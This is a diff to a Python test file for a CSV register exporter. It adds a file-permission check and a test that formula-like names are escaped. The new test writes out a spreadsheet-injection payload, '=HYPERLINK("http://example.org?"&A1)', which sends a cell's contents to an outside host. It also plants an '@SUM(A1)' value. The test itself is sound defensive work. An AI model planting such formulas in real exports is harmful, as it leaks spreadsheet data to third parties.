@@ -32,12 +32,24 @@ def test_the_register_names_each_use_and_its_sending_is_in_the_journal(journal, 
     out = tmp_path / "register.csv"
     result = register(out, journal, *BY, "--json")
     assert result.exit_code == 0 and json.loads(result.output)["uses"] == 1
+    assert out.stat().st_mode & 0o077 == 0, "it names people"
     [row] = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines()))
     assert (row["run"], row["authorisation"], row["outcome"]) == ("evening", "PP-1", "")
     assert row["access"] == "V. Viewer; W. Viewer"
     assert register_sent(journal) is not None
     assert register(tmp_path / "next.csv", journal, *BY).exit_code == 0
     assert list(csv.DictReader((tmp_path / "next.csv").read_text().splitlines())) == []
+
+
+def test_no_name_is_a_formula_of_a_spreadsheet(journal, tmp_path):
+    evil = '=HYPERLINK("http://example.org?"&A1)'
+    Journal(journal, "test").write(
+        "clearance", run="next", granted=True, authorisation="PP-1", profile="FR-CSI-L242-5", person=evil,
+        viewers=["@SUM(A1)"],
+    )  # fmt: skip
+    assert register(tmp_path / "register.csv", journal, *BY).exit_code == 0
+    [_, row] = list(csv.DictReader((tmp_path / "register.csv").read_text(encoding="utf-8").splitlines()))
+    assert (row["person"], row["access"]) == (f"'{evil}", "'@SUM(A1)")
 
 
 @pytest.mark.parametrize("words", [["--person", " ", "--recipient", "x"], ["--person", "x", "--recipient", " "]])
